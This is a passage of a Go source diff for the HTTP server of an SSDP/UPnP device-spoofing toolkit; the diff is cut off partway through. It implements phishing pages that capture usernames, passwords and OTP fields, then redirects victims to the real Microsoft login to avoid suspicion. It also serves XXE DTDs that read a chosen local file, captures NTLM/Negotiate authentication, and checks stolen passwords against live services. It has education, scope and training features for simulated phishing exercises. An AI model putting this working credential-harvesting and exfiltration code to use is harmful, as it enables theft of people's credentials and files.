@@ -1,123 +1,227 @@
 package upnp
 
 import (
+	"bytes"
+	"context"
+	"crypto/tls"
 	"encoding/base64"
+	"errors"
 	"fmt"
-	"log"
+	htmltemplate "html/template"
+	"io/fs"
+	"net"
 	"net/http"
-	"os"
-	"path/filepath"
-	"regexp"
+	"net/url"
+	"path"
 	"strings"
 	"sync"
+	"sync/atomic"
 	"time"
 
+	"goSSDPkit/pkg/creds"
+	"goSSDPkit/pkg/detect"
+	"goSSDPkit/pkg/devicecode"
+	"goSSDPkit/pkg/events"
+	"goSSDPkit/pkg/links"
+	"goSSDPkit/pkg/logging"
+	"goSSDPkit/pkg/loot"
+	"goSSDPkit/pkg/scope"
 	"goSSDPkit/pkg/ssdp"
 	"goSSDPkit/pkg/template"
+	"goSSDPkit/pkg/validate"
+	"goSSDPkit/pkg/xxe"
 )
 
-var (
-	// Global logger instance for stdout capture
-	Logger *UTCLogger
-	once   sync.Once
-)
+// LogPath is the file all events are written to, relative to the working directory
+const LogPath = "logs/goSSDPkit.log"
 
-// UTCLogger provides comprehensive logging with UTC timestamps
-type UTCLogger struct {
-	logFile   *os.File
-	mutex     sync.Mutex
-	stdoutBuf []byte
+// DeviceServer is the HTTP side of the spoofer, for programs that embed it
+type DeviceServer interface {
+	http.Handler
+	Start(ctx context.Context, address string) error
+	Close() error
 }
 
-// InitLogger initializes the global UTC logger
-func InitLogger() {
-	once.Do(func() {
-		Logger = &UTCLogger{}
-		Logger.init()
-	})
+var _ DeviceServer = (*Server)(nil)
+
+// Server represents the UPnP HTTP server
+type Server struct {
+	current         atomic.Pointer[site]
+	logger          logging.Logger
+	subscribers     []events.Events
+	redact          bool
+	events          events.Events
+	detector        *detect.Detector
+	credentials     *creds.Tracker
+	validator       *validate.Checker
+	scope           atomic.Pointer[scope.Scope] // everything is in scope when nil
+	violations      *scope.Violations
+	trustedProxies  *scope.Scope // peers whose X-Forwarded-For is believed
+	hostnames       hostnames
+	chunks          *loot.Assembler
+	bodyLimit       int
+	fuzzClients     []string
+	fuzzNames       []string
+	fuzzer          *descriptorFuzzer
+	healthPath      string
+	handlers        []handler
+	responseHooks   []ResponseHook
+	accessLog       *AccessLog
+	limiter         rateLimiter
+	compressed      compressedAssets
+	downloads       downloads
+	tags            assetTags
+	maxConns        int
+	maxConnsPerHost int
+	maxHandlers     int
+	conns           *connLimits
+	authMu          sync.Mutex
+	authAttempts    map[string]*authAttempts
+	negotiations    map[string]*negotiation
+	codesMu         sync.Mutex
+	deviceCodes     map[string]*devicecode.Code
+	varValues       varCache
+	targetsMu       sync.Mutex
+	targetHosts     map[string]string // host -> token of the training link opened last
+	tracking        bool
+	trackedMu       sync.Mutex
+	trackedHosts    map[string]string // host -> ID of the SSDP response it followed last
+	links           *links.Table
+	polls           context.Context
+	stopPolls       context.CancelFunc
+	httpServers     []*http.Server
+	shutdownTimeout time.Duration
+	timeouts        Timeouts
+	tlsConfig       *tls.Config // serve TLS alongside plain HTTP when set
+	mu              sync.Mutex
+	closed          bool
+	closeOnce       sync.Once
+	closeErr        error
 }
 
-// init initializes the UTCLogger
-func (l *UTCLogger) init() {
-	// Create logs directory
-	os.MkdirAll("logs", 0755)
-	
-	// Open log file
-	var err error
-	l.logFile, err = os.OpenFile("logs/goSSDPkit.log", os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0644)
-	if err != nil {
-		log.Printf("Failed to open log file: %v", err)
-		return
+// site is the template and settings a Server serves, replaced as a whole
+// by Reload so a request never sees half of each
+type site struct {
+	templateManager *template.Manager
+	config          Config
+	routes          map[string]string
+	variants        []template.Variant
+	abTest          []string
+	mimeTypes       map[string]string
+	favicon         string
+	icons           map[string]template.Icon // URL path -> icon
+	rules           []rule
+	vars            []compiledVar
+	proxy           *deviceProxy
+	profile         *Profile
+	deviceCode      *devicecode.Client
+	checker         *validate.Checker
+	education       *htmltemplate.Template
+}
+
+// Option configures a Server
+type Option func(*Server)
+
+// WithShutdownTimeout sets how long Close waits for in-flight requests
+// before dropping them
+func WithShutdownTimeout(d time.Duration) Option {
+	return func(s *Server) {
+		s.shutdownTimeout = d
 	}
 }
 
-// Log logs a message with UTC timestamp to both console and file
-func (l *UTCLogger) Log(format string, args ...interface{}) {
-	if l == nil {
-		return
+// Timeouts bound how long a client may take over each part of an HTTP
+// exchange, so slow clients cannot hold connections open forever. Zero
+// fields mean no limit.
+type Timeouts struct {
+	ReadHeader time.Duration // the request line and headers
+	Read       time.Duration // the whole request, body included
+	Write      time.Duration // from the end of the request headers to the end of the response
+	Idle       time.Duration // a keep-alive connection waiting for its next request
+}
+
+// DefaultTimeouts are generous enough for slow embedded clients and short
+// enough that slowloris gets nowhere
+var DefaultTimeouts = Timeouts{
+	ReadHeader: 10 * time.Second,
+	Read:       30 * time.Second,
+	Write:      60 * time.Second,
+	Idle:       120 * time.Second,
+}
+
+// WithTimeouts replaces DefaultTimeouts. Tarpits hold their connections
+// past the write timeout.
+func WithTimeouts(t Timeouts) Option {
+	return func(s *Server) {
+		s.timeouts = t
 	}
-	
-	l.mutex.Lock()
-	defer l.mutex.Unlock()
-	
-	message := fmt.Sprintf(format, args...)
-	timestamp := time.Now().UTC().Format("2006-01-02 15:04:05 UTC")
-	
-	// Print to console (no timestamp)
-	fmt.Printf("%s\n", message)
-	
-	// Write to log file with timestamp and stripped ANSI codes
-	if l.logFile != nil {
-		cleanMessage := l.stripANSI(message)
-		logLine := fmt.Sprintf("[%s] %s\n", timestamp, cleanMessage)
-		l.logFile.WriteString(logLine)
-		l.logFile.Sync()
-	}
-}
-
-// LogRaw logs a raw message with UTC timestamp (no extra formatting)
-func (l *UTCLogger) LogRaw(message string) {
-	if l == nil {
-		return
+}
+
+// WithEvents adds a subscriber to the events the server raises, alongside
+// the logger
+func WithEvents(e events.Events) Option {
+	return func(s *Server) {
+		s.subscribers = append(s.subscribers, e)
 	}
-	
-	l.mutex.Lock()
-	defer l.mutex.Unlock()
-	
-	timestamp := time.Now().UTC().Format("2006-01-02 15:04:05 UTC")
-	
-	// Print to console (raw, no timestamp)
-	fmt.Print(message)
-	
-	// Write to log file with timestamp and stripped ANSI codes
-	if l.logFile != nil {
-		cleanMessage := l.stripANSI(message)
-		logLine := fmt.Sprintf("[%s] %s", timestamp, cleanMessage)
-		l.logFile.WriteString(logLine)
-		l.logFile.Sync()
-	}
-}
-
-// Close closes the logger resources
-func (l *UTCLogger) Close() error {
-	if l != nil && l.logFile != nil {
-		return l.logFile.Close()
+}
+
+// WithRedaction keeps passwords, hashes, tokens and exfiltrated data out of
+// the log, for when they are saved encrypted instead
+func WithRedaction() Option {
+	return func(s *Server) {
+		s.redact = true
 	}
-	return nil
 }
 
-// stripANSI removes ANSI escape sequences from text
-func (l *UTCLogger) stripANSI(text string) string {
-	// Remove ANSI color codes and control sequences
-	ansiRegex := regexp.MustCompile(`\x1b\[[0-9;]*[mGKHF]`)
-	return ansiRegex.ReplaceAllString(text, "")
+// WithDetector inspects requests with d, so it can be shared with the SSDP
+// listener. By default the server uses its own.
+func WithDetector(d *detect.Detector) Option {
+	return func(s *Server) {
+		s.detector = d
+	}
 }
 
-// Server represents the UPnP HTTP server
-type Server struct {
-	templateManager *template.Manager
-	config          Config
-	logger          *UTCLogger
+// WithCredentialTracker records captured credentials in t, so it can be
+// shared between servers and summarised. By default the server uses its own.
+func WithCredentialTracker(t *creds.Tracker) Option {
+	return func(s *Server) {
+		s.credentials = t
+	}
+}
+
+// WithHealthCheck answers path with 200 OK for container health checks,
+// without logging or inspecting the request
+func WithHealthCheck(path string) Option {
+	return func(s *Server) {
+		s.healthPath = path
+	}
+}
+
+// WithHandler has h answer every request for pattern, or under it when
+// pattern ends in a slash, after the operator's rules and ahead of the
+// template. Handlers are tried in the order they were added.
+func WithHandler(pattern string, h http.Handler) Option {
+	return func(s *Server) {
+		s.handlers = append(s.handlers, handler{pattern: pattern, h: h})
+	}
+}
+
+// WithDescriptorFuzz answers descriptor requests from the given client
+// addresses with malformed XML, cycling through the named mutations (all of
+// them if none are named). Other hosts get the normal descriptor.
+func WithDescriptorFuzz(clients []string, mutations ...string) Option {
+	return func(s *Server) {
+		s.fuzzClients = append(s.fuzzClients, clients...)
+		s.fuzzNames = append(s.fuzzNames, mutations...)
+	}
+}
+
+// WithLogger sends the server's log lines to logger. Without it the server
+// logs to stdout only.
+func WithLogger(logger logging.Logger) Option {
+	return func(s *Server) {
+		s.logger = logger
+	}
 }
 
 // Config holds the configuration for the UPnP server
@@ -125,32 +229,314 @@ type Config struct {
 	LocalIP     string
 	LocalPort   int
 	SMBServer   string
-	RedirectURL string
+	RedirectURL string // where the login form sends victims after capture
 	IsAuth      bool
 	Realm       string
+	AuthRetries int  // Basic auth attempts from a host refused before one is accepted
+	Negotiate   bool // ask for Negotiate and NTLM auth, capturing what Windows clients send
 	SessionUSN  string
+	Label       string // prefixed to log lines when serving several interfaces
+	Page        string // template file served in place of present.html; empty for present.html
+
+	// Rules checked in order before the built-in handlers; the first match
+	// decides the answer
+	Rules []Rule
+
+	// Template variables fetched from commands or URLs when a phishing
+	// page is rendered
+	Vars []Var
+
+	// Device descriptors of other templates, by the path they are served
+	// on, for search targets impersonated with them
+	Descriptors map[string]*template.Manager
+
+	// Real device whose descriptor and control traffic are passed through
+	Proxy Proxy
+
+	// Identity provider device codes are requested from, for templates
+	// that use them
+	DeviceCode devicecode.Config
+
+	// Service captured passwords are tried against, an http(s) URL taking
+	// Basic auth or an ldap(s) server; empty for none
+	Validate string
+
+	// Requests a minute each host may make, in bursts of up to as many,
+	// before it is answered 429 Too Many Requests; 0 for no limit
+	RateLimit int
+	// How long each request from a host the detector flagged as a scanner
+	// is tarpitted; 0 serves scanners like everyone else
+	Tarpit time.Duration
+
+	// Inject a beacon into phishing pages reporting how victims use them:
+	// time to first input, the order fields are focused in, and where
+	// they gave up
+	Analytics bool
+
+	// Picture pages as the victim saw them on submit, with html2canvas
+	// loaded from ScreenshotScript (DefaultScreenshotScript when empty)
+	Screenshots      bool
+	ScreenshotScript string
+
+	// Show victims who submit a login form an education page instead of
+	// capturing what they entered, raising the submission without its
+	// password. EducationPage is the page, a Go html/template seeing
+	// .Victim and .Username; DefaultEducationPage when empty.
+	Education     bool
+	EducationPage string
+	// Names of the training targets by token, for attributing requests to
+	// them; see package training
+	Targets map[string]string
 }
 
 // NewServer creates a new UPnP HTTP server
-func NewServer(templateManager *template.Manager, config Config) (*Server, error) {
-	// Initialize global logger
-	InitLogger()
-	
-	return &Server{
+func NewServer(templateManager *template.Manager, config Config, opts ...Option) (*Server, error) {
+	s := &Server{
+		logger:          &logging.UTCLogger{},
+		bodyLimit:       DefaultBodyLimit,
+		maxConns:        DefaultMaxConns,
+		maxConnsPerHost: DefaultMaxConnsPerHost,
+		maxHandlers:     DefaultMaxHandlers,
+		shutdownTimeout: 5 * time.Second,
+		timeouts:        DefaultTimeouts,
+	}
+	s.polls, s.stopPolls = context.WithCancel(context.Background())
+	if err := s.Reload(templateManager, config); err != nil {
+		return nil, err
+	}
+	for _, opt := range opts {
+		opt(s)
+	}
+	if s.detector == nil {
+		s.detector = detect.New()
+	}
+	if s.credentials == nil {
+		s.credentials = creds.NewTracker()
+	}
+	s.conns = newConnLimits(s.maxConns, s.maxHandlers)
+	if len(s.fuzzClients) > 0 {
+		var err error
+		if s.fuzzer, err = newDescriptorFuzzer(s.fuzzClients, s.fuzzNames); err != nil {
+			return nil, err
+		}
+	}
+	var logged events.Events = logEvents{s: s}
+	if s.redact {
+		logged = events.Redact(logged)
+	}
+	s.events = events.Multi(append([]events.Events{logged}, s.subscribers...)...)
+	s.chunks = loot.NewAssembler(chunkIdle, s.chunksFinished)
+	return s, nil
+}
+
+// Reload switches the server to another template and configuration while
+// it runs. Requests already being handled finish with the old ones. If the
+// template manifest cannot be loaded, or a rule, a variable, the proxy, the HTTP
+// profile, the device code provider, the validation target or the education
+// page is invalid, the server keeps what it had.
+func (s *Server) Reload(templateManager *template.Manager, config Config) error {
+	site, err := s.Prepare(templateManager, config)
+	if err != nil {
+		return err
+	}
+	s.Switch(site)
+	return nil
+}
+
+// Site is a template and configuration checked and compiled by Prepare,
+// ready for Switch
+type Site struct {
+	site *site
+}
+
+// Switch makes the server serve site, prepared by Prepare
+func (s *Server) Switch(site *Site) {
+	s.current.Store(site.site)
+}
+
+// Prepare checks and compiles a template and configuration as Reload
+// would, without switching to them, so several servers can be prepared
+// and only switched once all of them succeeded
+func (s *Server) Prepare(templateManager *template.Manager, config Config) (*Site, error) {
+	// Extra pages declared by the template manifest
+	manifest, err := templateManager.Manifest()
+	if err != nil {
+		return nil, fmt.Errorf("failed to load template manifest: %w", err)
+	}
+	rules, err := compileRules(config.Rules, manifest.Routes)
+	if err != nil {
+		return nil, err
+	}
+	vars, err := compileVars(config.Vars)
+	if err != nil {
+		return nil, err
+	}
+	proxy, err := newDeviceProxy(config.Proxy)
+	if err != nil {
+		return nil, err
+	}
+	profile, err := lookupProfile(manifest.HTTPProfile)
+	if err != nil {
+		return nil, err
+	}
+	var deviceCode *devicecode.Client
+	if manifest.DeviceCode {
+		if err := config.DeviceCode.Validate(); err != nil {
+			return nil, err
+		}
+		deviceCode = devicecode.NewClient(config.DeviceCode)
+	}
+	checker, err := s.newChecker(config.Validate)
+	if err != nil {
+		return nil, err
+	}
+	education, err := compileEducation(config, manifest)
+	if err != nil {
+		return nil, err
+	}
+	// Icons the device descriptor lists outside /assets/, which Windows
+	// fetches to draw the device
+	icons := make(map[string]template.Icon)
+	for _, icon := range templateManager.Icons() {
+		if p := icon.Path(); p != "" && !strings.HasPrefix(p, "/assets/") {
+			icons[p] = icon
+		}
+	}
+	return &Site{site: &site{
 		templateManager: templateManager,
 		config:          config,
-		logger:          Logger,
-	}, nil
+		routes:          manifest.Routes,
+		variants:        manifest.Variants,
+		abTest:          manifest.ABTest,
+		mimeTypes:       manifest.MIMETypes,
+		favicon:         manifest.Favicon,
+		icons:           icons,
+		rules:           rules,
+		vars:            vars,
+		proxy:           proxy,
+		profile:         profile,
+		deviceCode:      deviceCode,
+		checker:         checker,
+		education:       education,
+	}}, nil
+}
+
+// log writes a log line, prefixed with the server label if one is set
+func (s *Server) log(format string, args ...interface{}) {
+	s.logAt(logging.LevelNormal, format, args...)
+}
+
+// record writes a log line to the log file, only showing it when verbose
+func (s *Server) record(format string, args ...interface{}) {
+	if label := s.current.Load().config.Label; label != "" {
+		format = "[" + label + "] " + format
+	}
+	logging.Record(s.logger, format, args...)
+}
+
+// notice writes a log line that is shown even in quiet mode
+func (s *Server) notice(format string, args ...interface{}) {
+	s.logAt(logging.LevelQuiet, format, args...)
+}
+
+// debug writes a log line that is only shown when debugging
+func (s *Server) debug(format string, args ...interface{}) {
+	s.logAt(logging.LevelDebug, format, args...)
+}
+
+// logAt writes a log line at level, prefixed with the server label if one
+// is set
+func (s *Server) logAt(level logging.Level, format string, args ...interface{}) {
+	if label := s.current.Load().config.Label; label != "" {
+		format = "[" + label + "] " + format
+	}
+	logging.LogAt(s.logger, level, format, args...)
 }
 
 // ServeHTTP implements the http.Handler interface
 func (s *Server) ServeHTTP(w http.ResponseWriter, r *http.Request) {
+	if s.healthPath != "" && r.URL.Path == s.healthPath {
+		w.Header().Set("Content-Type", "text/plain")
+		w.Write([]byte("ok\n"))
+		return
+	}
+	done, ok := s.acquireHandler(w)
+	if !ok {
+		return
+	}
+	defer done()
+	// Scope, scanner detection and rate limits go by the trusted address,
+	// as X-Forwarded-For would let a host pass for any other
+	trusted := s.trustedClientIP(r)
+	if !s.scope.Load().Contains(trusted) {
+		s.serveOutOfScope(w, r, trusted)
+		return
+	}
+	host := s.getClientIP(r)
+	if s.accessLog != nil {
+		rec := &accessRecorder{ResponseWriter: w}
+		defer s.logAccess(r, rec, time.Now())
+		w = rec
+	}
+	site := s.current.Load()
+	for _, alert := range s.detector.HTTP(trusted, r.Header.Get("User-Agent"), time.Now()) {
+		alert.Label = site.config.Label
+		s.events.OnAlert(alert)
+	}
+	if s.limit(w, r, trusted) {
+		return
+	}
+	if site.profile != nil {
+		pw := newProfileWriter(w, r, site.profile)
+		defer pw.finish()
+		w = pw
+	}
+	if len(s.responseHooks) > 0 {
+		w = &hookWriter{ResponseWriter: w, r: r, hooks: s.responseHooks}
+	}
+
+	r = s.captureBody(r)
+	r = s.attribute(w, r, site)
+	r = s.track(w, r)
+
+	// Operator rules come before everything else
+	if s.applyRules(w, r) {
+		return
+	}
+
+	// Then handlers added by the program embedding the server
+	if h := s.handlerFor(r.URL.Path); h != nil {
+		s.debug("%s%s %s %s handled by %s", ssdp.NoteBox, host, r.Method, r.URL.Path, h.pattern)
+		h.h.ServeHTTP(w, r)
+		return
+	}
+
+	// Short links redirect to the pages lures lead to
+	if link, ok := s.shortLink(r); ok {
+		s.handleShortLink(w, r, link)
+		return
+	}
+
+	// A proxied device's descriptor and URLs are passed through to it
+	if site.proxy != nil {
+		if r.URL.Path == ssdp.DeviceDescPath {
+			s.serveDescriptor(w, r, "proxied device XML", func() (string, error) {
+				return site.proxy.descriptor(r.Context())
+			})
+			return
+		}
+		if strings.HasPrefix(r.URL.Path, ProxyPrefix+"/") {
+			s.handleProxy(w, r, site.proxy)
+			return
+		}
+	}
+
 	// Handle assets FIRST to prevent redirect
 	if strings.HasPrefix(r.URL.Path, "/assets/") {
 		s.handleAssets(w, r)
 		return
 	}
-	
+
 	// Handle specific paths
 	switch r.URL.Path {
 	case "/ssdp/device-desc.xml":
@@ -165,37 +551,93 @@ func (s *Server) ServeHTTP(w http.ResponseWriter, r *http.Request) {
 		s.handleFavicon(w, r)
 	case "/ssdp/do_login.html":
 		s.handleLogin(w, r)
+	case BeaconPath:
+		s.handleBeacon(w, r)
+	case ScreenshotPath:
+		s.handleScreenshot(w, r)
 	case "/present.html":
 		s.handlePhishingPage(w, r)
 	default:
+		if manager, ok := site.config.Descriptors[r.URL.Path]; ok {
+			s.serveDescriptor(w, r, "device XML for "+r.URL.Path, manager.BuildDeviceXML)
+			return
+		}
+		if icon, ok := site.icons[r.URL.Path]; ok {
+			s.handleIcon(w, r, icon)
+			return
+		}
+		if file, ok := site.routes[r.URL.Path]; ok {
+			if path.Ext(file) == ".xml" {
+				s.handleRouteDesc(w, r, file)
+			} else {
+				s.handleRoute(w, r, file)
+			}
+			return
+		}
 		s.handleDefault(w, r)
 	}
 }
 
 // handleDeviceDesc serves the device descriptor XML
 func (s *Server) handleDeviceDesc(w http.ResponseWriter, r *http.Request) {
-	s.logRequest(r, "XML REQUEST")
+	s.serveDescriptor(w, r, "device XML", s.current.Load().templateManager.BuildDeviceXML)
+}
 
-	xml, err := s.templateManager.BuildDeviceXML()
+// serveDescriptor serves the descriptor build returns, fuzzed for fuzzed
+// clients. name describes it in errors.
+func (s *Server) serveDescriptor(w http.ResponseWriter, r *http.Request, name string, build func() (string, error)) {
+	s.events.OnDescriptorFetch(s.newRequest(r))
+
+	xml, err := build()
 	if err != nil {
 		http.Error(w, "Internal Server Error", http.StatusInternalServerError)
-		log.Printf("Error building device XML: %v", err)
+		s.notice("%sError building %s: %v", ssdp.WarnBox, name, err)
 		return
 	}
+	if id := responseIDOf(r); id != "" {
+		xml = trackPresentation(xml, id)
+	}
+	if s.fuzzer != nil {
+		xml = s.fuzzDescriptor(s.getClientIP(r), xml)
+	}
 
 	w.Header().Set("Content-Type", "application/xml")
 	w.WriteHeader(http.StatusOK)
 	w.Write([]byte(xml))
 }
 
+// fuzzDescriptor applies the next mutation to the descriptor sent to host,
+// if it is a fuzzed client, logging what it got and how long it took to come
+// back after the previous one
+func (s *Server) fuzzDescriptor(host, xml string) string {
+	mutation, previous, since, ok := s.fuzzer.next(host, time.Now())
+	if !ok {
+		return xml
+	}
+	if previous != "" {
+		s.log("%sHost: %s came back %s after %s", ssdp.FuzzBox, host, since.Round(time.Millisecond), previous)
+	}
+	s.log("%sSent %s descriptor (%s) to %s", ssdp.FuzzBox, mutation.Name, mutation.Description, host)
+	return mutation.Apply(xml)
+}
+
+// FuzzResults returns what each descriptor fuzzing client was last sent, or
+// nil when descriptor fuzzing is off
+func (s *Server) FuzzResults() []FuzzResult {
+	if s.fuzzer == nil {
+		return nil
+	}
+	return s.fuzzer.results()
+}
+
 // handleServiceDesc serves the service descriptor XML
 func (s *Server) handleServiceDesc(w http.ResponseWriter, r *http.Request) {
-	s.logRequest(r, "XML REQUEST")
+	s.events.OnDescriptorFetch(s.newRequest(r))
 
-	xml, err := s.templateManager.BuildServiceXML()
+	xml, err := s.current.Load().templateManager.BuildServiceXML()
 	if err != nil {
 		http.Error(w, "Internal Server Error", http.StatusInternalServerError)
-		log.Printf("Error building service XML: %v", err)
+		s.notice("%sError building service XML: %v", ssdp.WarnBox, err)
 		return
 	}
 
@@ -206,23 +648,30 @@ func (s *Server) handleServiceDesc(w http.ResponseWriter, r *http.Request) {
 
 // handleXXE handles XXE vulnerability detection
 func (s *Server) handleXXE(w http.ResponseWriter, r *http.Request) {
-	s.logger.Log("%sHost: %s, User-Agent: %s", ssdp.XXEBox, s.getClientIP(r), r.Header.Get("User-Agent"))
-	s.logger.Log("               %s %s", r.Method, r.URL.Path)
+	s.events.OnExfil(events.Exfil{Request: s.newRequest(r), Kind: events.ExfilXXE})
 
 	w.Header().Set("Content-Type", "application/xml")
 	w.WriteHeader(http.StatusOK)
 	w.Write([]byte("."))
 }
 
-// handleDataDTD serves the DTD file for XXE exploitation
+// handleDataDTD serves the DTD file for XXE exploitation. A file query
+// parameter reads that file instead of the configured one.
 func (s *Server) handleDataDTD(w http.ResponseWriter, r *http.Request) {
-	s.logger.Log("%sHost: %s, User-Agent: %s", ssdp.XXEBox, s.getClientIP(r), r.Header.Get("User-Agent"))
-	s.logger.Log("               %s %s", r.Method, r.URL.Path)
+	s.events.OnExfil(events.Exfil{Request: s.newRequest(r), Kind: events.ExfilDTD})
 
-	dtd, err := s.templateManager.BuildExfilDTD()
+	fileURL := ""
+	if file := r.URL.Query().Get("file"); file != "" {
+		if err := xxe.CheckFile(file); err != nil {
+			http.Error(w, "Bad Request", http.StatusBadRequest)
+			return
+		}
+		fileURL = xxe.FileURL(file)
+	}
+	dtd, err := s.current.Load().templateManager.BuildExfilDTD(fileURL)
 	if err != nil {
 		http.Error(w, "Internal Server Error", http.StatusInternalServerError)
-		log.Printf("Error building exfil DTD: %v", err)
+		s.notice("%sError building exfil DTD: %v", ssdp.WarnBox, err)
 		return
 	}
 
@@ -231,10 +680,20 @@ func (s *Server) handleDataDTD(w http.ResponseWriter, r *http.Request) {
 	w.Write([]byte(dtd))
 }
 
-// handleFavicon returns 404 for favicon requests
+// handleFavicon serves the template's favicon, or 404 if it has none
 func (s *Server) handleFavicon(w http.ResponseWriter, r *http.Request) {
-	w.WriteHeader(http.StatusNotFound)
-	w.Write([]byte("Not found."))
+	s.serveAsset(w, r, s.current.Load().favicon, "")
+}
+
+// handleIcon serves an icon the device descriptor lists, from the
+// template's assets, as the type the descriptor declares
+func (s *Server) handleIcon(w http.ResponseWriter, r *http.Request, icon template.Icon) {
+	assetPath, ok := cleanAssetPath(icon.AssetPath())
+	if !ok {
+		http.NotFound(w, r)
+		return
+	}
+	s.serveAsset(w, r, assetPath, icon.MIMEType)
 }
 
 // handleLogin handles POST requests to the login form
@@ -246,19 +705,39 @@ func (s *Server) handleLogin(w http.ResponseWriter, r *http.Request) {
 			return
 		}
 
-		username := r.FormValue("username")
-		password := r.FormValue("password")
-		
-		// Log captured credentials
-		credentials := fmt.Sprintf("username=%s&password=%s", username, password)
-		s.logger.Log("%sHOST: %s, CAPTURED CREDS: %s", ssdp.CredsBox, s.getClientIP(r), credentials)
+		// In education mode the victim learns it was an exercise instead
+		if site := s.current.Load(); site.education != nil {
+			s.handleExercise(w, r, site)
+			return
+		}
+
+		// Report captured credentials, plus any other fields a multi-page
+		// template collects (e.g. an OTP code)
+		s.captured(events.Credentials{
+			Request:  s.newRequest(r),
+			Source:   events.SourceForm,
+			Username: r.FormValue("username"),
+			Password: r.FormValue("password"),
+			Extra:    extraFormFields(r.PostForm),
+		})
 
-		// Redirect to real Microsoft login after capturing credentials
+		// Redirect to real Microsoft login after capturing credentials,
+		// unless told to send victims elsewhere
 		redirectURL := "https://login.microsoftonline.com/"
-		
+		if target := s.current.Load().config.RedirectURL; target != "" {
+			redirectURL = target
+		}
+
+		// Multi-page templates continue to their next page instead
+		if next := r.PostForm.Get("next"); next != "" {
+			if _, ok := s.current.Load().routes[next]; ok || next == "/present.html" {
+				redirectURL = next
+			}
+		}
+
 		// Add a small delay to make the redirect feel natural
 		time.Sleep(500 * time.Millisecond)
-		
+
 		w.Header().Set("Location", redirectURL)
 		w.WriteHeader(http.StatusFound) // 302 redirect
 		return
@@ -269,42 +748,129 @@ func (s *Server) handleLogin(w http.ResponseWriter, r *http.Request) {
 
 // handlePhishingPage serves the phishing page
 func (s *Server) handlePhishingPage(w http.ResponseWriter, r *http.Request) {
-	s.logRequest(r, "PHISH HOOKED")
+	s.events.OnPhishHook(s.newRequest(r))
 
 	// Check for authentication if enabled
-	if s.config.IsAuth {
+	site := s.current.Load()
+	if site.config.requiresAuth() {
 		if !s.handleAuth(w, r) {
 			return
 		}
 	}
 
-	html, err := s.templateManager.BuildPhishHTML()
+	html, err := s.buildPhishHTML(site, r)
 	if err != nil {
 		http.Error(w, "Internal Server Error", http.StatusInternalServerError)
-		log.Printf("Error building phish HTML: %v", err)
+		s.notice("%sError building phish HTML: %v", ssdp.WarnBox, err)
 		return
 	}
 
-	w.Header().Set("Content-Type", "text/html")
-	w.WriteHeader(http.StatusOK)
-	w.Write([]byte(html))
+	html = site.config.instrument(html)
+	s.writePage(w, r, "text/html", []byte(html))
+}
+
+// buildPhishHTML builds the configured page, else the phishing page variant
+// meant for the client of r, or if none is its A/B test page or
+// present.html, personalised for the client
+func (s *Server) buildPhishHTML(site *site, r *http.Request) (string, error) {
+	manager, err := s.pageManager(site, r)
+	if err != nil {
+		return "", err
+	}
+	if site.config.Page != "" {
+		return manager.BuildPhishVariant(site.config.Page)
+	}
+	for _, variant := range site.variants {
+		if variant.Matches(r.Header.Get("User-Agent")) {
+			s.debug("%sServing variant %s", ssdp.NoteBox, variant.File)
+			return manager.BuildPhishVariant(variant.File)
+		}
+	}
+	if file := s.abVariant(site, r); file != "" {
+		return manager.BuildPhishVariant(file)
+	}
+	return manager.BuildPhishHTML()
+}
+
+// handleRoute serves an extra page declared in the template manifest
+func (s *Server) handleRoute(w http.ResponseWriter, r *http.Request, file string) {
+	s.events.OnPhishHook(s.newRequest(r))
+
+	// Check for authentication if enabled
+	site := s.current.Load()
+	if site.config.requiresAuth() {
+		if !s.handleAuth(w, r) {
+			return
+		}
+	}
+
+	manager, err := s.pageManager(site, r)
+	if err != nil {
+		http.Error(w, "Internal Server Error", http.StatusInternalServerError)
+		s.notice("%sError building page %s: %v", ssdp.WarnBox, file, err)
+		return
+	}
+	html, err := manager.BuildPage(file)
+	if err != nil {
+		http.Error(w, "Internal Server Error", http.StatusInternalServerError)
+		s.notice("%sError building page %s: %v", ssdp.WarnBox, file, err)
+		return
+	}
+
+	html = site.config.instrument(html)
+	s.writePage(w, r, "text/html", []byte(html))
+}
+
+// handleRouteDesc serves a route to an XML file as a descriptor, for
+// devices impersonated with their own descriptor
+func (s *Server) handleRouteDesc(w http.ResponseWriter, r *http.Request, file string) {
+	manager := s.current.Load().templateManager
+	s.serveDescriptor(w, r, "descriptor "+file, func() (string, error) {
+		return manager.BuildPage(file)
+	})
+}
+
+// captured validates and records credentials and raises them, marked new on
+// the first capture of the username from the host
+func (s *Server) captured(c events.Credentials) {
+	c.Validation = s.validate(c)
+	c.New = s.credentials.Add(c)
+	s.events.OnCredentials(c)
+}
+
+// extraFormFields returns the submitted fields other than username, password
+// and next
+func extraFormFields(form url.Values) url.Values {
+	extra := url.Values{}
+	for key, values := range form {
+		switch key {
+		case "username", "password", "next":
+			continue
+		}
+		extra[key] = values
+	}
+	return extra
 }
 
 // handleDefault handles all other requests
 func (s *Server) handleDefault(w http.ResponseWriter, r *http.Request) {
 	// Check for exfiltration attempts
-	if strings.Contains(r.URL.Path, "exfiltrated") {
-		s.logger.Log("%sHost: %s, User-Agent: %s", ssdp.ExfilBox, s.getClientIP(r), r.Header.Get("User-Agent"))
-		s.logger.Log("               %s %s", r.Method, r.URL.Path)
-	} else {
+	if !s.handleExfil(r) {
 		s.logRequest(r, "DETECTION")
-		s.logger.Log("%sOdd HTTP request from Host: %s, User Agent: %s", ssdp.DetectBox, s.getClientIP(r), r.Header.Get("User-Agent"))
-		s.logger.Log("               %s %s", r.Method, r.URL.Path)
-		s.logger.Log("               ... sending to phishing page.")
+		s.log("%sOdd HTTP request from Host: %s, User Agent: %s", ssdp.DetectBox, s.getClientIP(r), r.Header.Get("User-Agent"))
+		s.log("               %s %s", r.Method, r.URL.Path)
+		if e := s.newRequest(r); e.Body != "" {
+			body := formatBody(e)
+			if s.redact {
+				body = events.Redacted
+			}
+			s.log("               Body: %s", body)
+		}
+		s.log("               ... sending to phishing page.")
 	}
 
 	// Check for authentication if enabled
-	if s.config.IsAuth {
+	if s.current.Load().config.requiresAuth() {
 		if !s.handleAuth(w, r) {
 			return
 		}
@@ -315,74 +881,139 @@ func (s *Server) handleDefault(w http.ResponseWriter, r *http.Request) {
 	w.WriteHeader(http.StatusMovedPermanently)
 }
 
-// handleAssets serves static assets (CSS, JS, images) from templates/assets directory
+// handleAssets serves static assets (CSS, JS, images) from the template's own
+// assets directory, falling back to the shared templates assets directory
 func (s *Server) handleAssets(w http.ResponseWriter, r *http.Request) {
-	// Log asset request
-	s.logger.Log("[ASSET] Serving asset: %s", r.URL.Path)
-	
